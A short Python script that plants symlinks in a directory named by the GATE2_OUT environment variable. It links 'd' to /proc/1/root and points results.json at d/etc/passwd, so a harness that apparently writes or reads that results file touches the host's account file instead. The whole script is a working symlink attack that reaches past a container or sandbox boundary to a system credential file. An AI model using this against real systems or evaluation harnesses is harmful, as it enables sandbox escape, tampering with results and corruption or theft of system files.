import os
from pathlib import Path

out = Path(os.environ["GATE2_OUT"], "results.json")
out.parent.joinpath("d").symlink_to("/proc/1/root")
out.symlink_to("d/etc/passwd")
